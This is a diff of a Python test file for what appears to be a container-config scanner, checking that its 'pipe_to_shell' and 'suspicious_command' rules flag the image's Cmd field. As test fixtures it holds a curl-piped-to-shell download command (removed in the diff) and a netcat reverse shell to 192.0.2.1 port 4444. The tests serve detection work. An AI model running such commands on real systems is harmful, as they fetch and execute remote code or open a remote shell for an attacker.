@@ -89,7 +89,7 @@ def test_a_crashing_rule_ends_only_itself(monkeypatch: pytest.MonkeyPatch) -> No
 
 
 def test_entrypoint_and_command_are_one_process() -> None:
-    together = report(document([], Entrypoint=["/bin/sh", "-c"], Cmd=["curl -s https://get.example.org/i | sh"]))
+    together = report(document([], Entrypoint=["/bin/sh", "-c"], Cmd=[PIPE.removeprefix("/bin/sh -c ")]))
     assert [one.path for one in together.findings if one.rule == "pipe_to_shell"] == ["config.Cmd"]
     apart = report(document([], Entrypoint=["/usr/bin/nc"], Cmd=["-e", "/bin/sh", "192.0.2.1", "4444"]))
     assert [one.path for one in apart.findings if one.rule == "suspicious_command"] == ["config.Cmd"]
